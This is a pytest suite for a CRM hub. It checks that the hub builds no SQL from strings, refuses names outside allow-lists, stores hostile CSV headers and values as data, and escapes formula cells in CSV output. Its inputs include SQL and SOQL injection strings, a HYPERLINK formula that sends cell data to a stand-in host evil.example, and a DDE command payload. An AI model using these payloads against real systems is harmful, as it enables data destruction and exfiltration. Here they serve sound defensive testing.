"""Hostile names and values cannot become SQL, SOQL or spreadsheet formulas.

- No string-built SQL anywhere in the shipped code (an AST scan: ``text()``/``execute()`` never get an f-string, a
  ``%`` or ``+`` expression or ``.format()``), so no value or name can reach a statement except as a bound parameter.
- Names a person writes are checked against allow-lists: canonical fields in mapping specs and target maps against
  the contact schema, target field and object names against an identifier pattern (they reach SOQL).
- Imported headers (a CSV export's column names) and values are data: stored in JSON, whatever they say.
- Every CSV the hub writes escapes cells that would start a formula.
"""

from __future__ import annotations

import ast
import csv
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import func, inspect, select
from sqlalchemy.orm import Session, sessionmaker

from crm_core.db import make_engine
from crm_core.errors import ConfigError
from crm_core.hub import Hub
from crm_core.jobs import ingest, map_landed
from crm_core.models import ContactRecord, LandingRecord
from crm_core.security import spreadsheet_safe
from mapping import parse_spec
from mapping.target import load_target_map

from .conftest import REPO

SHIPPED = ("crm_core", "connectors", "mapping", "plugins", "dags")
HOSTILE = "x'); DROP TABLE contact_record; --"


def _string_built(node: ast.AST) -> bool:
    if isinstance(node, ast.JoinedStr) and any(isinstance(v, ast.FormattedValue) for v in node.values):
        return True
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add | ast.Mod):
        return True
    return isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"


def _sql_sinks(tree: ast.AST) -> list[ast.Call]:
    calls = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call) or not node.args:
            continue
        name = node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
        if name in ("text", "execute", "exec_driver_sql", "executescript") and _string_built(node.args[0]):
            calls.append(node)
    return calls


def test_the_shipped_code_builds_no_sql_from_strings() -> None:
    found = []
    for folder in SHIPPED:
        for path in sorted((REPO / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            found += [f"{path.relative_to(REPO)}:{call.lineno}" for call in _sql_sinks(tree)]
    assert found == []


def test_the_scan_does_see_string_built_sql() -> None:
    """The guard above would pass vacuously if it matched nothing: it flags these."""
    sample = ast.parse('text(f"SELECT * FROM {t}")\nconn.execute("DELETE FROM x WHERE id=" + i)\n'
                       'session.execute(text("SELECT :a"), {"a": 1})\ncur.execute("DROP %s" % name)\n')
    assert [c.lineno for c in _sql_sinks(sample)] == [1, 2, 4]


@pytest.mark.parametrize("field", ["email; DROP TABLE customer", "email = '' OR 1=1 --", "customer.id"])
def test_a_mapping_spec_cannot_name_a_column_outside_the_contact_schema(field: str) -> None:
    spec = f"version: 1\ncontacts:\n  - fields:\n      {field!r}: mail\n"
    with pytest.raises(ConfigError) as raised:
        parse_spec(spec)
    assert any(field in p for p in raised.value.problems)


@pytest.mark.parametrize(
    ("key", "value"),
    [("target", "LastName FROM Contact WHERE Id != ''--"), ("target", "Name, (SELECT Id FROM User)"),
     ("object", "Contact; DELETE"), ("external_id_field", "Hub_Customer_Id__c' OR '1'='1")],
    ids=["field-where", "field-subquery", "object", "external-id"],
)
def test_a_target_map_with_a_name_outside_the_identifier_allow_list_is_refused(tmp_path: Path, key: str,
                                                                                value: str) -> None:
    spec = {"object": "Contact", "external_id_field": "Hub_Customer_Id__c", "target": "LastName"}
    spec[key] = value
    path = tmp_path / "target.yaml"
    path.write_text(f"object: {spec['object']!r}\nexternal_id_field: {spec['external_id_field']!r}\n"
                    f"fields:\n  - {{canonical: family_name, target: {spec['target']!r}}}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as raised:
        load_target_map(path)
    assert any(value in p and "name" in p for p in raised.value.problems)


def test_the_bundled_target_maps_pass_the_allow_list() -> None:
    for path in (REPO / "mapping" / "specs" / "targets").glob("*.yaml"):
        assert load_target_map(path).fields


def test_hostile_headers_and_values_of_an_imported_export_are_stored_as_data(
    make_hub: Callable[..., Hub], db_url: str, sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    drop = tmp_path / "drop"
    drop.mkdir()
    with (drop / "export.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["submission_id", "submitted_at", "name", "email", HOSTILE, "Robert'); DROP TABLE landing_record;--"])
        writer.writerow(["1", "2025-08-23 10:00", "Bobby Tables", "bobby.tables@qq.com", HOSTILE, "1; DELETE FROM customer"])
    hub = make_hub(f"""version: 1
sources:
  - name: export
    kind: form_files
    mapping: builtin:forms
    options: {{path: "{drop}", settle_seconds: 0}}
""", url=db_url)
    assert ingest(hub, "export").records_out == 1
    assert map_landed(hub, "export").records_out == 1
    engine = make_engine(db_url)
    tables = set(inspect(engine).get_table_names())
    engine.dispose()
    assert {"contact_record", "landing_record", "customer"} <= tables
    with sessions() as s:
        payload = s.scalars(select(LandingRecord.payload)).one()
        assert payload["fields"][HOSTILE] == HOSTILE  # a header is a JSON key, its value a JSON string
        assert s.scalar(select(func.count()).select_from(ContactRecord)) == 1
    shutil.rmtree(drop)


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
     ("\t=1", "'\t=1"), ("＝1+1", "'＝1+1"), ("a-1", "a-1"), ("张伟", "张伟"), (42, 42), (None, None)],
    ids=["hyperlink", "dde", "minus", "at", "tab", "full-width", "inner-minus", "text", "number", "none"],
)
def test_spreadsheet_cells_that_would_start_a_formula_are_escaped(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written


def test_the_dedupe_output_escapes_formula_cells_from_the_input(tmp_path: Path) -> None:
    from crm_core.cli import main

    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "First Name", "Surname", "E-Mail"])
        writer.writerow(["=HYPERLINK(\"http://evil.example\")", "Ann", "Lee", "ann@example.com"])
        writer.writerow(["@cmd", "Bob", "Marsh", "bob@example.com"])
    out = tmp_path / "out.csv"
    assert main(["dedupe", str(source), "--id-column", "id", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        ids = [row["record_id"] for row in csv.DictReader(fh)]
    assert sorted(ids) == ["'=HYPERLINK(\"http://evil.example\")", "'@cmd"]
